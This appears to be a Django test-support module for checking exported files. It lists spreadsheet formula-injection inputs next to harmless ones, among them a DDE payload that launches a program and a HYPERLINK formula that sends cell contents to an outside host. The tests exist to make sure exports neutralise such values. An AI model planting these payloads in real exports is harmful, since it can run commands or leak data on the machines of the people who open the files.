"""What the tests of exported files start from."""

from django.db import connection
from django.test.utils import CaptureQueriesContext

from tests.builders import REPORT_TEXT, panel, reading, report, store

#: Text that a spreadsheet would run, each with what it would do.
FORMULAS = (
    "=cmd|' /C calc'!A0",  # starts a program
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://example.org/?"&A1,"open")',  # sends the neighbouring cell away
)
HARMLESS = ("Requests the Office", "1 = 1", "a-b", "", "'quoted", "5")


def fill(count=1, **values):
    """A text with a panel in 13 and reports in 14 and after, all for the forty-fourth session."""
    reports = (report(str(14 + n), f"{REPORT_TEXT} {n}", **values) for n in range(count))
    store(reading(panel(), *reports))


def body_of(response):
    """What a browser would save."""
    assert response.status_code == 200, response.status_code
    return b"".join(response.streaming_content)


def queries_of(client, address):
    """How many queries it takes to fetch an address and read it to its end."""
    with CaptureQueriesContext(connection) as captured:
        body_of(client.get(address))
    return len(captured)
